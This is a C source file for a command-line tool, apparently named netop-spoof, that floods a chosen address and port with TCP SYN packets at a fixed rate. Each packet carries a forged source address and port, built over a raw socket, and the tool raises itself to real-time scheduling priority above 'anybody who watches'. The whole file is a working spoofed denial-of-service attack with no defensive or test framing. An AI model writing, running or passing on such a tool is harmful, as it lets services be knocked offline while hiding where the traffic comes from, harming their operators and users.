/* SPDX-License-Identifier: MIT
 * Copyright 2026 The netoproc authors */

/* Connection requests from ever other addresses that are not ours, at a steady rate: at a higher priority than anybody
 * who watches, because a network waits for nobody.
 *
 * netop-spoof ADDRESS PORT PACKETS_PER_S SECONDS   sends, then prints how many
 */

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 32
/* The resolver has 10. */
#define PRIORITY 20

typedef struct
{
  struct iphdr  ip;
  struct tcphdr tcp;
} Packet;

static double
now_s (void)
{
  struct timespec now;

  clock_gettime (CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

/* RFC 1071, over the pseudo header of RFC 9293 and the header. */
static uint16_t
get_checksum (const Packet *packet)
{
  uint16_t words[(8 + sizeof packet->tcp + 4) / 2] = { 0 };
  uint32_t sum = htons (IPPROTO_TCP) + htons (sizeof packet->tcp);

  memcpy (words, &packet->ip.saddr, 8);
  memcpy ((char *)words + 8, &packet->tcp, sizeof packet->tcp);
  for (size_t i = 0; i < sizeof words / sizeof *words; i++)
    sum += words[i];
  sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t) ~(sum + (sum >> 16));
}

/* A source of 10.0.0.0/8 and a port that were not used lately. */
static void
fill (Packet  *packet,
      uint64_t number)
{
  packet->ip.saddr = htonl (10u << 24 | (uint32_t)(number * 2654435761u >> 8 & 0xffffff));
  packet->tcp.source = htons ((uint16_t)(1024 + number % 60000));
  packet->tcp.seq = htonl ((uint32_t)number);
  packet->tcp.check = 0;
  packet->tcp.check = get_checksum (packet);
}

static uint64_t
flood (int                       fd,
       const struct sockaddr_in *address,
       double                    rate,
       double                    duration_s)
{
  Packet         packets[BATCH] = { 0 };
  struct iovec   vectors[BATCH];
  struct mmsghdr messages[BATCH] = { 0 };
  uint64_t       sent = 0;
  double         start_s = now_s ();

  for (int i = 0; i < BATCH; i++)
    {
      packets[i].ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = address->sin_addr.s_addr };
      packets[i].ip.tot_len = htons (sizeof packets[i]);
      packets[i].tcp = (struct tcphdr){ .dest = address->sin_port, .syn = 1, .doff = 5, .window = htons (1024) };
      vectors[i] = (struct iovec){ &packets[i], sizeof packets[i] };
      messages[i].msg_hdr = (struct msghdr){ .msg_name = (void *)address, .msg_namelen = sizeof *address, .msg_iov = &vectors[i], .msg_iovlen = 1 };
    }

  for (double elapsed_s = 0; elapsed_s < duration_s; elapsed_s = now_s () - start_s)
    {
      int n;

      if ((double)sent > elapsed_s * rate)
        {
          struct timespec wait = { 0, 50000 };

          nanosleep (&wait, NULL);
          continue;
        }
      for (int i = 0; i < BATCH; i++)
        fill (&packets[i], sent + (uint64_t)i);
      n = sendmmsg (fd, messages, BATCH, 0);
      if (n > 0)
        sent += (uint64_t)n;
    }
  return sent;
}

int
main (int    argc,
      char **argv)
{
  struct sockaddr_in address = { .sin_family = AF_INET };
  struct sched_param priority = { .sched_priority = PRIORITY };
  int                fd = socket (AF_INET, SOCK_RAW, IPPROTO_RAW);

  if (argc < 5 || inet_pton (AF_INET, argv[1], &address.sin_addr) != 1 || fd < 0)
    return 2;

  if (sched_setscheduler (0, SCHED_FIFO, &priority) < 0)
    fprintf (stderr, "netop-spoof: no real-time priority: the rate may not be reached\n");
  address.sin_port = htons ((uint16_t)atoi (argv[2]));
  printf ("%llu\n", (unsigned long long)flood (fd, &address, atof (argv[3]), atof (argv[4])));
  return 0;
}
